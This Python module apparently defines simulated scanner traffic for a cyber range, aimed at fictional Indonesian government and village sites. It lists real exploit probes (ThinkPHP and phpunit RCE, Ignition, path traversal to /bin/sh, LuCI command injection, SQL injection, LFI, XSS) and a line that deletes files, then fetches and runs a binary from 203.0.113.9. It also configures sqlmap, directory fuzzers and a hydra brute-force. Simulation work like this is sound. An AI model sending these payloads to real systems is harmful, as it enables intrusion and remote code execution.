"""What scanners ask for: secrets, plugins, exploits of the day, passwords, broken requests, tool runs."""

from __future__ import annotations

from pathlib import Path

from range.visits.agents import CURL, DESK, GO, PYTHON, ZGRAB


def _words(name: str) -> tuple[str, ...]:
    return tuple((Path(__file__).parent / "words" / f"{name}.txt").read_text().splitlines())


SCANNER_AGENTS = (PYTHON, CURL, GO, ZGRAB, DESK, "Mozilla/5.0", "")

SECRETS = _words("secrets")

PLUGINS = _words("plugins")

EXPLOITS: tuple[tuple[str, str, bytes], ...] = (
    (
        "GET",
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
        b"",
    ),
    ("POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", b"<?php echo md5('x');"),
    ("POST", "/phpunit/phpunit/src/Util/PHP/eval-stdin.php", b"<?php echo md5('x');"),
    ("POST", "/_ignition/execute-solution", b'{"solution":"x","parameters":{"viewFile":"x"}}'),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", b""),
    ("GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", b""),
    ("GET", "/?q=1'+UNION+SELECT+1,2,3--+-", b""),
    ("GET", "/index.php?id=1%20AND%201=1", b""),
    ("GET", "/berita.php?id=1'%20OR%20'1'='1", b""),
    ("GET", "/index.php?page=../../../../../../etc/passwd", b""),
    ("GET", "/index.php?page=php://filter/convert.base64-encode/resource=index.php", b""),
    ("GET", "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php", b""),
    ("GET", "/?x=%3Cscript%3Ealert(1)%3C/script%3E", b""),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.9/arm7;sh+/tmp/arm7", b""),
    ("GET", "/boaform/admin/formLogin?username=admin&psd=admin", b""),
    ("POST", "/kcfinder/upload.php", b"upload=x"),
    ("GET", "/elfinder/php/connector.minimal.php?cmd=open&target=l1_Lw", b""),
    ("GET", "/HNAP1/", b""),
    ("PUT", "/uji.txt", b"uji"),
    ("GET", "/solr/admin/info/system?wt=json", b""),
    ("GET", "/owa/auth/logon.aspx", b""),
)

PASSWORDS = _words("passwords")

BROKEN = (
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(128, 160)) + b"\r\n\r\n",
    b"GET /\xff\xfe\xfd HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    b"GET / HTTP/9.9\r\n\r\n",
    b"HELP\r\n\r\n",
    b"GET /" + b"A" * 6000 + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
    b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00\r\n\r\n",
)

_H = ("-H", "X-Range-Id: {rid}", "-H", "X-Range-Client: {ip}", "-H", "X-Range-Time: {time}")
_WORDS = "\n".join(path.lstrip("/") for path in SECRETS)
_Run = tuple[tuple[str, ...], float, tuple[tuple[str, str], ...]]

_WAPITI = (
    "--flush-session",
    "-m",
    "sql,xss,file,exec",
    "--max-scan-time",
    "20",
    "-o",
    "{tmp}/o",
    "-f",
    "json",
)
_HYDRA_FORM = "/wp-login.php:log=^USER^&pwd=^PASS^:H=X-Range-Id\\: {rid}:H=X-Range-Client\\: {ip}:F=Galat"
_HYDRA = ("hydra", "-l", "admin", "-P", "{tmp}/w", "-t", "4", "-s", "{port}", "{host}", "http-post-form")
_LIST = (("w", _WORDS),)
_GUESSES = (("w", "\n".join(PASSWORDS)),)

TOOL_RUNS: dict[str, tuple[tuple[int, _Run], ...]] = {
    # Sites that answer everything, journals, a village: nothing to get in by.
    "ppid": (
        (5, (("wapiti", "-u", "{url}/?id=1", *_H, *_WAPITI), 30.0, ())),
        (13, (("ffuf", "-u", "{url}/FUZZ", "-w", "{tmp}/w", *_H, "-t", "4", "-s"), 15.0, _LIST)),
    ),
    "jdih": (
        (
            15,
            (
                ("sqlmap", "-u", "{url}/?id=1", *_H, "--batch", "--level", "2", "--output-dir", "{tmp}/o"),
                25.0,
                (),
            ),
        ),
    ),
    "jurnal-kesehatan": ((8, (("wapiti", "-u", "{url}/index.php/jurnal/index", *_H, *_WAPITI), 30.0, ())),),
    "perpus-kecamatan": (
        (6, (("gobuster", "dir", "-u", "{url}", "-w", "{tmp}/w", *_H, "-q", "-t", "4"), 15.0, _LIST)),
    ),
    "desa-mekarjaya": (
        (9, (("dirb", "{url}/", "{tmp}/w", *_H, "-S", "-r", "-w"), 15.0, _LIST)),
        (17, (("wfuzz", "-w", "{tmp}/w", *_H, "--hc", "404", "{url}/FUZZ"), 15.0, _LIST)),
    ),
    "dinas-pemuda": ((16, ((*_HYDRA, _HYDRA_FORM), 20.0, _GUESSES)),),
}
